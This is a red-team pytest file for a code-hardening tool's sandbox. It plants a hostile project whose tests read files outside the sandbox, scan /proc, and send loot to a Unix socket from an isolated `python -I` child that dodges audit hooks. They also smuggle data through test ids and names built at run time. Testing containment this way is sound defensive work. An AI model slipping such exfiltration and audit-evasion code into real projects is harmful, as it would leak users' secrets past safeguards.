"""Red team: a hostile project whose own tests try to get data out of the sandbox.

Its tests read a file outside the copy, look for another process in /proc, send what they found
to a path-named Unix socket outside (from a `python -I` child, which no audit hook sees), and
put it in parametrised ids and in test names made at run time, arranging to pass before the fix
and fail after it so that the ids reach the rollback reason. `harden` runs it end to end; the
markers must then appear nowhere outside: not on stdout, in the reports, under --out or in the
run database. A control run of the same attack code outside the sandbox proves it works.
"""

from __future__ import annotations

import hashlib
import json
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from typer.testing import CliRunner

from devsecbots.cli import app

pytestmark = pytest.mark.slow

# A weak hash in a security use (a password digest): the offline DevBot fixes it, so the hostile
# tests' "the app changed" check fails after the fix and the round is rolled back.
APP = (
    "import hashlib\n\n\ndef password_digest(password):\n"
    "    return hashlib.md5(password).hexdigest()\n"
)
PROC_NEEDLE = "devsecbots-redteam-proc-"

LOOT = '''
import glob, os, socket, subprocess, sys


def read_outside(path):
    """Read a file outside the copy; ctypes would do the same past any audit hook."""
    try:
        with open(path) as handle:
            return handle.read(200)
    except OSError:
        return ""


def peek_processes(needle):
    found = ""
    for name in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(name, "rb") as handle:
                data = handle.read()
        except OSError:
            continue
        if needle.encode() in data and b"glob.glob" not in data:
            found += data.split(needle.encode())[-1].split(b"\\0")[0].decode()
    return found


def send(path, data):
    """From a `python -I` child: no sitecustomize, no audit hook."""
    child = (
        "import socket, sys\\n"
        "s = socket.socket(socket.AF_UNIX)\\n"
        "s.connect(sys.argv[1])\\n"
        "s.sendall(sys.argv[2].encode())\\n"
    )
    done = subprocess.run([sys.executable, "-I", "-c", child, path, data or "probe"],
                          capture_output=True, timeout=10)
    return done.returncode == 0
'''

HOSTILE_TESTS = """
import hashlib, os, pytest
from loot import peek_processes, read_outside, send

HERE = os.path.dirname(os.path.abspath(__file__))
LOOT = read_outside({secret!r}) + peek_processes({needle!r})
SENT = send({sock!r}, LOOT)
with open(os.path.join(HERE, "..", "app.py"), "rb") as handle:
    CHANGED = hashlib.sha256(handle.read()).hexdigest() != {app_sha!r}


@pytest.mark.parametrize("loot", [LOOT or "nothing", "sent" if SENT else "not-sent"])
def test_smuggle(loot):
    assert not CHANGED  # passes before the fix, fails after: the id reaches the rollback reason


def _named():
    assert not CHANGED


globals()["test_x" + (LOOT.encode().hex()[:200] or "empty")] = _named
"""


def test_attack_code_works_outside_the_sandbox(tmp_path: Path) -> None:
    with Attack(tmp_path) as attack:
        control = (
            "import sys; sys.path.insert(0, sys.argv[1]); import loot; "
            "found = loot.read_outside(sys.argv[2]) + loot.peek_processes(sys.argv[3]); "
            "print(found); loot.send(sys.argv[4], found)"
        )
        argv = [str(attack.project / "tests"), str(attack.secret), PROC_NEEDLE, str(attack.sock)]
        done = subprocess.run(
            [sys.executable, "-I", "-c", control, *argv], capture_output=True, text=True, timeout=30
        )
        assert attack.secret_mark in done.stdout and attack.proc_mark in done.stdout, done.stderr
        assert attack.secret_mark in attack.received()


def test_hostile_tests_get_nothing_out(containment: str, tmp_path: Path) -> None:
    db = tmp_path / "db" / "runs.sqlite"
    out = tmp_path / "out"
    with Attack(tmp_path) as attack:
        done = CliRunner().invoke(
            app,
            [
                "harden",
                str(attack.project),
                "--out",
                str(out),
                "--offline",
                "--python",
                sys.executable,
                "--analyzers",
                "bandit",
                "--db",
                str(db),
            ],
        )
        received = attack.received()
    report = json.loads((out / "devsecbots-report.json").read_text())
    notes = " ".join(h["note"] for h in report["history"])
    assert "rolled back" in notes and "test_smuggle[…]" in notes, done.output
    assert "not defined by name in the input" in notes  # the test named at run time
    want = "bubblewrap" if containment == "bwrap" else "fallback"
    assert want in report["tests"], report["tests"]
    assert not received, f"the socket outside got {received!r}"
    places = {"stdout": done.output.encode(), **_files(out), **_files(db.parent)}
    for mark in (attack.secret_mark, attack.proc_mark):
        for form in (mark.encode(), mark.encode().hex().encode()):
            leaked = [name for name, data in places.items() if form in data]
            assert not leaked, f"{form!r} got out through {leaked}"
    assert db.stat().st_mode & 0o777 == 0o600 and db.parent.stat().st_mode & 0o777 == 0o700


class Attack:
    """The outside world the hostile project aims at: a secret file, a process, a socket."""

    def __init__(self, tmp_path: Path) -> None:
        self.secret_mark = f"rt-secret-{uuid.uuid4().hex[:12]}"
        self.proc_mark = f"rt-proc-{uuid.uuid4().hex[:12]}"
        # World-readable, under the shared /tmp: only containment keeps the tests from it.
        self.outside = Path(f"/tmp/devsecbots-redteam-{uuid.uuid4().hex}")
        self.secret = self.outside / "secret.txt"
        self.sock = self.outside / "agent.sock"
        self.project = tmp_path / "hostile"

    def __enter__(self) -> Attack:
        self.outside.mkdir(mode=0o755)
        self.outside.chmod(0o755)
        self.secret.write_text(self.secret_mark)
        self.secret.chmod(0o644)
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(str(self.sock))
        self.sock.chmod(0o777)
        self.server.listen(8)
        self.server.setblocking(False)
        self.process = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(300)", PROC_NEEDLE + self.proc_mark]
        )
        (self.project / "tests").mkdir(parents=True)
        (self.project / "app.py").write_text(APP)
        (self.project / "tests" / "loot.py").write_text(LOOT)
        (self.project / "tests" / "test_hostile.py").write_text(
            HOSTILE_TESTS.format(
                secret=str(self.secret),
                needle=PROC_NEEDLE,
                sock=str(self.sock),
                app_sha=hashlib.sha256(APP.encode()).hexdigest(),
            )
        )
        return self

    def received(self) -> str:
        """Everything sent to the socket so far."""
        data = b""
        while True:
            try:
                conn, _ = self.server.accept()
            except BlockingIOError:
                return data.decode(errors="replace")
            conn.settimeout(5)
            with conn:
                while chunk := conn.recv(4096):
                    data += chunk

    def __exit__(self, *exc: object) -> None:
        self.process.kill()
        self.process.wait()
        self.server.close()
        for path in (self.sock, self.secret):
            path.unlink(missing_ok=True)
        self.outside.rmdir()


def _files(root: Path) -> dict[str, bytes]:
    """Every regular file under `root`, by path."""
    found = (p for p in root.rglob("*") if p.is_file() and not p.is_symlink())
    return {str(path): path.read_bytes() for path in found}
